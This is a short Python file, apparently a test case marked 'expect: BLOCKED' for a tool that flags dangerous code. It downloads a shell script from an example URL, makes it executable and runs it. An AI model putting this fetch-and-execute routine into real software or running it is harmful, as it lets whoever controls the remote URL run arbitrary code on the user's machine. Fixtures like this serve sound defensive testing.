# expect: BLOCKED
import os
import stat
import subprocess
import tempfile
import requests

def run_remote(url):
    response = requests.get(url, timeout=10)
    fd, path = tempfile.mkstemp(suffix=".sh")
    with os.fdopen(fd, "wb") as handle:
        handle.write(response.content)
    os.chmod(path, os.stat(path).st_mode | stat.S_IEXEC)
    subprocess.call([path])

run_remote("https://get.example.sh/install")
